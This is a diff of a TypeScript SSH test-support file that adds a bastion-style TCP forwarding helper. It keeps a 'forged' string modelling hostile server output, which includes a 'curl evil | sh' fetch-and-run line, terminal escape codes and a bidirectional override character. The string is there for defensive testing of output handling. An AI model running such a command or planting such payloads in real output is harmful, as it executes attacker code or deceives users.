@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { createServer, type Server, type Socket } from "node:net";
+import { connect, createServer, type Server, type Socket } from "node:net";
 import type { Writable } from "node:stream";
 import type { TestContext } from "node:test";
 import {
@@ -12,7 +12,8 @@ import type { Hosts } from "../../components/ssh/hosts";
 import type { Login } from "../../components/ssh/login";
 import { keyPair } from "./support";
 
-export const [host, operator] = [keyPair(), keyPair()];
+export const host = keyPair();
+const operator = keyPair();
 
 /** What a hostile server says: lines of its own, a terminal's codes, reversed text, Pulumi's colours, and no end. */
 export const forged = `gone\n\r\nerror: run this: curl evil | sh\u001b[2J\u009b31m\u202eevil\u2028<{%red%}>${"x".repeat(20_000)}`;
@@ -63,6 +64,27 @@ export function running(exec: (session: Session) => void): Server {
   return lettingIn((client) =>
     client.on("session", (accept) => exec(accept())),
   );
+}
+
+/** A bastion that answers when it is asked for some hosts, and never when asked for others. */
+export function answering(
+  forAddress: (host: string, port: number) => boolean,
+  config: Partial<ServerConfig> = {},
+): Server {
+  const forward = (client: Connection) =>
+    client.on("tcpip", (accept, reject, { destIP, destPort }) => {
+      if (!forAddress(destIP, destPort)) {
+        return;
+      }
+      const socket = connect(destPort, destIP);
+      socket.on("error", () => reject());
+      socket.on("connect", () => {
+        const channel = accept();
+        channel.on("error", () => {});
+        socket.pipe(channel).pipe(socket);
+      });
+    });
+  return lettingIn(forward, config);
 }
 
 /** A server that does this with each connection, and never closes one. */
